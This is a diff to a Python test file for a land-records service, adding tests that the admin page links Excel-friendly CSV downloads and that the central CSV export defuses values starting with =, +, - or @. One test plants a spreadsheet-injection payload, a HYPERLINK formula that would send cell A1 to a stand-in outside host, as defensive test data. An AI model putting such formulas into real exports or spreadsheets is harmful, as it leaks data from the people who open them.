@@ -83,8 +83,61 @@ def test_the_admin_page_links_each_kind_of_entry_as_csv_for_a_browser(office, se
     _sent(office, server)
     with httpx.Client(base_url=server.url, verify=ssl.create_default_context(cafile=server.ca), timeout=30) as c:
         page = c.get("/admin", params={"token": server.admin}).text
-        # THEN it links the CSV of every entry and of each register kind, the token carried along
+        # THEN it links the CSV of every entry and of each register kind, plain and for Excel, the
+        # token carried along
         links = re.findall(r"href='([^']+)'", page)
-        assert len(links) == 4 and all(f"token={server.admin}" in link for link in links)
+        assert len(links) == 8 and all(f"token={server.admin}" in link for link in links)
+        assert sum("excel=1" in link for link in links) == 4
         got = c.get(links[1].replace("&amp;", "&"))  # jamabandi
         assert got.status_code == 200 and got.content.decode("utf-8").count("\n") == 7  # header + 6 rows
+
+
+def _approved_entry(office, values: dict) -> None:
+    """One more approved entry, on a new page of the office's register, with `values`."""
+    from sqlalchemy import select
+
+    from records import services
+    from records.models import Entry
+
+    with office.ws.session() as s:
+        reg = s.get(Entry, office.entry_ids[0]).register_id
+        page = services.add_page(s, office.ws.images, actor=office.clerk, register_id=reg,
+                                 data=b"\x89PNG another page", name="p9.png").page_id
+        eid = services.add_entry(s, actor=office.clerk, register_id=reg, page_id=page, values=values)
+        services.transition(s, actor=office.clerk, entry_ids=[eid], action="submit")
+        services.transition(s, actor=office.sup, entry_ids=[eid], action="approve")
+        assert s.scalar(select(Entry.state).where(Entry.id == eid)) == "approved"
+
+
+def _csv(server, **params) -> dict[str, dict]:
+    """The server's CSV of received entries, by owner."""
+    with server.admin_client() as c:
+        r = c.get("/v1/admin/entries.csv", params=params)
+    assert r.status_code == 200, r.text
+    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8").lstrip("\ufeff"))))
+    return {row["khewat_no"]: row for row in rows}
+
+
+def test_the_central_csv_never_runs_an_offices_value_as_a_formula_and_keeps_areas_as_text_for_excel(office, server):
+    # GIVEN an entry whose values an office typed start with = + - @, beside the areas (1-5) and
+    # shares (1/2) of the others, all on the server
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
+    _approved_entry(office, {"khewat_no": "99", "owner": formula, "remarks": "@SUM(A1:A9)",
+                             "area": "+2-0", "share": "-1/2"})
+    _sent(office, server)
+    # WHEN the central office downloads the CSV
+    rows = _csv(server, template="jamabandi")
+    # THEN no cell starts a formula: each such value has an apostrophe before it (Excel ran them)
+    bad = rows["99"]
+    assert (bad["owner"], bad["remarks"], bad["area"], bad["share"]) == (
+        "'" + formula, "'@SUM(A1:A9)", "'+2-0", "'-1/2")
+    assert not [v for row in rows.values() for v in row.values() if v[:1] in ("=", "+", "-", "@")]
+    # AND the other values are as the office wrote them
+    assert (rows["40"]["area"], rows["40"]["share"]) == ("1-5", "1/2")
+    # WHEN it asks for the CSV for Excel
+    rows = _csv(server, template="jamabandi", excel=1)
+    # THEN areas and shares (Excel made dates of them) and the formulas are ="..." text
+    assert (rows["40"]["area"], rows["40"]["share"], rows["40"]["year"]) == ('="1-5"', '="1/2"', '="2019-20"')
+    assert rows["99"]["owner"] == '="' + formula.replace('"', '""') + '"'
+    assert rows["99"]["remarks"] == '="@SUM(A1:A9)"'
+    assert rows["40"]["owner"] == "محمد اسلم ولد غلام رسول"
